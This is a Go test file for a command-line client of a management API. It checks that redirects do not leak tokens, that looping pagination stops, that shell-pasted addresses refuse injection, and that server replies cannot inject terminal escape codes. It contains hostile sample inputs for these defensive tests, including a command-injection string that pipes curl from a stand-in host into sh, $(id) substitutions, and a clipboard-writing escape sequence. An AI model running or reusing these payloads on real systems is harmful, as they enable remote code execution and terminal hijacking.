package main

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/innate-id/innate/client"
	"github.com/innate-id/innate/internal/dev"
)

// against has a command call a management API that answers as answer does.
func against(t *testing.T, answer func(w http.ResponseWriter, r *http.Request)) *acting {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/token" {
			fmt.Fprintf(w, `{"access_token":"tok","expires_on":"%d","token_type":"Bearer"}`, time.Now().Add(time.Hour).Unix())
			return
		}
		answer(w, r)
	}))
	t.Cleanup(s.Close)
	return &acting{id: &client.Identity{Endpoint: s.URL + "/token", Header: "h"}, http: s.Client(), stdout: io.Discard, stderr: io.Discard,
		in: &dev.Instance{Endpoints: dev.Endpoints{Management: s.URL}}}
}

// TestRedirectIsNotFollowed: a token goes where the command said, and neither to
// another port of that host nor in the clear, as by a redirect it would.
func TestRedirectIsNotFollowed(t *testing.T) {
	t.Parallel()
	var got atomic.Int64
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" || r.ContentLength > 0 {
			got.Add(1)
		}
		fmt.Fprint(w, `{}`)
	}))
	defer elsewhere.Close()
	for _, status := range []int{301, 302, 303, 307, 308} {
		a := against(t, func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, elsewhere.URL+r.URL.Path, status) })
		for _, method := range []string{http.MethodGet, http.MethodPut} {
			if _, err := a.arm(t.Context(), method, "/x", map[string]string{"secret": "s"}, nil); err == nil || !strings.Contains(err.Error(), fmt.Sprint(status)) {
				t.Errorf("%s answered %d: %v", method, status, err)
			}
		}
		v := &client.Vault{URL: a.in.Endpoints.Management, Identity: a.id, HTTP: a.http}
		if _, err := v.Set(t.Context(), "s", "v"); err == nil {
			t.Errorf("a vault answered %d, and that was followed", status)
		}
	}
	if n := got.Load(); n > 0 {
		t.Errorf("%d requests with a token or a body went elsewhere", n)
	}
}

// TestPagesThatGoRoundEnd: a list whose next page is one that was there already
// is no list.
func TestPagesThatGoRoundEnd(t *testing.T) {
	t.Parallel()
	var asked atomic.Int64
	a := against(t, func(w http.ResponseWriter, r *http.Request) {
		if asked.Add(1) > 100 {
			panic(http.ErrAbortHandler)
		}
		fmt.Fprintf(w, `{"value":[{}],"nextLink":"http://%s/%s"}`, r.Host, map[string]string{"/a": "b", "/b": "c"}[r.URL.Path]+"")
	})
	if _, err := pages[node[struct{}]](t.Context(), a, "/a"); err == nil || !strings.Contains(err.Error(), "again") || asked.Load() > 10 {
		t.Errorf("asked %d times: %v", asked.Load(), err)
	}
	asked.Store(0)
	v := &client.Vault{URL: a.in.Endpoints.Management, Identity: a.id, HTTP: a.http}
	if err := v.List(t.Context(), func(client.Secret) error { return nil }); err == nil || !strings.Contains(err.Error(), "again") || asked.Load() > 10 {
		t.Errorf("a vault was asked %d times: %v", asked.Load(), err)
	}
}

// TestAddressIsFitForAShell: it is printed to be pasted.
func TestAddressIsFitForAShell(t *testing.T) {
	t.Parallel()
	a := against(t, nil)
	for _, at := range []string{"/x'; curl evil.test | sh; '", "/x y", "/x\x1b[2J", "/x\ny", "/x`id`", "/x\\y", "/$(id)", "/x\u202ey"} {
		if got, err := a.ours(a.in.Endpoints.Management + at); err == nil {
			t.Errorf("%q is an address, %q", at, got)
		}
	}
}

// TestAnswersDoNotSteerTheTerminal: neither a refusal nor a state does.
func TestAnswersDoNotSteerTheTerminal(t *testing.T) {
	t.Parallel()
	const steers = `\u001b]52;c;ZXZpbA==\u0007\u009b2J`
	for _, body := range []string{`{"status":"Failed","error":{"code":"x` + steers + `","message":"y` + steers + `"}}`, `{"status":"Running` + steers + `"}`} {
		a := against(t, func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, body) })
		s, err := a.look(t.Context(), "/x")
		if err == nil {
			err = errors.New(word(s.state))
		}
		if strings.ContainsAny(lines(err.Error()), "\x1b\x07\u009b") {
			t.Errorf("%s is printed as %q", body, lines(err.Error()))
		}
	}
	a := against(t, func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(403)
		fmt.Fprint(w, `{"error":{"code":"x`+steers+`","message":"first\r\nsecond`+steers+`"}}`)
	})
	_, err := a.arm(t.Context(), http.MethodGet, "/x", nil, nil)
	if got := lines(fmt.Sprint(err)); strings.ContainsAny(got, "\x1b\x07\u009b\r") || !strings.Contains(got, "first\nsecond") {
		t.Errorf("a refusal is printed as %q", got)
	}
	a = against(t, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(502); fmt.Fprint(w, `{}`) })
	if _, err := a.arm(t.Context(), http.MethodGet, "/x", nil, nil); err == nil || !strings.Contains(err.Error(), "502") {
		t.Errorf("a refusal that says nothing is %v", err)
	}
}
